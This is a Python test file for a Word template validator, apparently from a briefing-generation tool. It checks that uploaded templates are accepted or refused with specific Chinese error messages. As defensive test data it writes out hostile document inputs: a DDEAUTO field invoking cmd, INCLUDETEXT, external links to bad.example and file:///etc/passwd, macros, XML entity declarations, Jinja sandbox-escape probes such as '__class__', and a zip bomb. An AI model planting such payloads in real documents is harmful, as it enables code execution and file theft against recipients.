"""Templates that people hand in: what is taken, and what is refused in which words."""

from __future__ import annotations

import io
import time
import zipfile

import pytest
from docx import Document

from taizhang.briefings.word.checking import faults
from taizhang.briefings.word.tags import named
from taizhang.briefings.word.template import default_template
from tests.briefings.makers import body, changed

_LINK = (
    '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="{target}" TargetMode="External"/></Relationships>'
)


def _linked(kind: str, target: str) -> bytes:
    def replace(name: str, xml: str) -> str:
        if name != "word/_rels/document.xml.rels":
            return xml
        return xml.replace("</Relationships>", _LINK.format(kind=kind, target=target))

    return changed(replace)


def _saying(words: str) -> bytes:
    """The shipped template whose lead says this."""
    return changed(body("{{ lead }}", words))


def _document(*paragraphs: str) -> bytes:
    document = Document()
    for each in paragraphs:
        document.add_paragraph(each)
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


@pytest.mark.parametrize(
    "template",
    [
        default_template(),
        changed(),
        _saying("{{ lead }}——{{ place }}"),
        _document("{{ title }}", "{%p for each in targets %}", "{{ each.title }}：{{r each.actual }}", "{%p endfor %}"),
        _document("{{ title }}", "{%p if not leagues and red %}", "有红灯", "{%p endif %}"),
        _document(
            "{{ title }}",
            "{%p for area in areas %}",
            "{%p for one in area.behind %}",
            "{{r one }}",
            "{%p endfor %}",
            "{%p endfor %}",
        ),
    ],
    ids=["shipped", "repacked", "changed", "own", "condition", "list in a list"],
)
def test_taken(template: bytes) -> None:
    assert faults(template) == []


@pytest.mark.parametrize(
    ("template", "words"),
    [
        (b"", "不是 Word"),
        (b"%PDF-1.7", "不是 Word"),
        (b"PK\x03\x04" + b"\x00" * 40, "不是 Word"),
        (changed(word__vbaProject_DOT_bin=b"x"), "宏"),
        (changed(word__embeddings__a_DOT_docx=b"x"), "嵌入的对象"),
        (changed(word__activeX__activeX1_DOT_xml=b"<a/>"), "控件"),
        (_linked("attachedTemplate", "http://bad.example/a.dotm"), "bad.example"),
        (_linked("image", "file:///etc/passwd"), "etc/passwd"),
        (_linked("hyperlink", "https://bad.example"), "链接到外部"),
        (changed(body("{{ lead }}", '</w:t><w:instrText> DDEAUTO c "cmd" </w:instrText><w:t>')), "DDEAUTO"),
        (changed(body("{{ lead }}", "</w:t><w:instrText> INCLUDE</w:instrText><w:instrText>TEXT x </w:instrText><w:t>")), "INCLUDETEXT"),
        (changed(lambda n, x: x.replace("?>", '?><!DOCTYPE a [<!ENTITY b "c">]>', 1) if n == "word/document.xml" else x), "无法读取"),
        (changed(lambda n, x: "<a" if n == "word/document.xml" else x), "无法读取"),
        (_saying("{{ laed }}"), "是不是“lead”"),
        (_saying("{{ nothing_like_it }}"), "不是通报的内容"),
        (_saying("{{ headings.redd }}"), "是不是“headings.red”"),
        (_saying("{{ areas }}"), "要用 for"),
        (_saying("{{ headings }}"), "请写明哪一个"),
        (_saying("{{ lead }"), "没写对"),
        (_saying("{{ lead"), "没写对"),
        (_saying("{{lead}}"), "没写对"),
        (_saying("{% include 'x' %}"), "没写对"),
        (_saying("{%p include 'x' %}"), "只能写名称"),
        (_saying("{%p set a = 1 %}"), "只能写名称"),
        (_saying("{{ lead.__class__ }}"), "不是通报的内容"),
        (_saying("{{ lead.upper() }}"), "只能写名称"),
        (_saying("{{ 'a' * 999999999 }}"), "只能写名称"),
        (_saying("{{ cycler.__init__ }}"), "不是通报的内容"),
        (_saying("{{ lead|upper }}"), "只能写名称"),
        (_saying("{%p for a in range(9) %}"), "没写对"),
        (_saying("{%p for each in lead %}"), "没写对"),
        (_document("{{ title }}", "{%p for a in targets %}", "{%p for b in targets %}", "{{ b.title }}", "{%p endfor %}", "{%p endfor %}"), "自己的清单"),
        (_document("{{ title }}", "{%p for a in lead %}", "{%p endfor %}"), "不是清单"),
        (_document("{{ title }}", "{%p for a in range(9) %}", "{%p endfor %}"), "只能写名称"),
        (_document("{{ title }}", "{%p for a in red %}", "x"), "没写对"),
        (_document("没有标签"), "没有标题"),
        (_document("{{ title }}", *["{{ lead }}"] * 700), "标签太多"),
        (changed(body("{{ lead }}", "</w:t></w:r><w:bookmarkStart w:id=\"1\" w:name=\"{{ lead }}\"/><w:r><w:t>")), "文字以外"),
        (changed(lambda n, x: x.replace("{{ title }}", "{{ x() }}") if n == "docProps/core.xml" else x), "只能写名称"),
    ],
)  # fmt: skip
def test_refused_in_words(template: bytes, words: str) -> None:
    found = faults(template)
    assert any(words in each for each in found), found


def test_a_bomb_is_refused_before_it_is_unpacked() -> None:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"<a>" + b" " * (70 << 20) + b"</a>")
    began = time.monotonic()
    assert "太大" in faults(file.getvalue())[0]
    assert time.monotonic() - began < 5


def test_a_tag_that_word_cut_into_runs_is_one_tag() -> None:
    cut = '{{ le</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t xml:space="preserve">ad }}'
    assert faults(_saying(cut)) == []


def test_every_name_is_told_with_how_it_is_written() -> None:
    told = dict(named())
    assert told["title"] == "{{ title }}"
    assert told["targets"] == "{%p for each in targets %}"
    assert told["each.actual"] == "{{r each.actual }}"
